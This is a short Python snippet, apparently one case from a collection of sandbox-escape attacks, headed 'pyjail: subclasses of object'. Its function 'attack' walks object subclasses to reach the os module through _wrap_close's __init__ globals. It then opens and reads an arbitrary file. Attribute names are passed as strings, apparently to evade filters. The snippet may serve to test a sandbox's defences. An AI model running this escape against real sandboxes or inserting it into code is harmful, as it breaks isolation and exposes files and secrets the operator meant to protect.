# The same, with names in strings.
# after: read
# source: pyjail: subclasses of object
def attack(path, **_):
    base = getattr(getattr((), "__class__"), "__base__")
    for c in getattr(base, "__subclasses__")():
        if c.__name__ == "_wrap_close":
            found = getattr(getattr(c, "__init__"), "__globals__")
            return {"text": found["read"](found["open"](path, 0), 100).decode()}
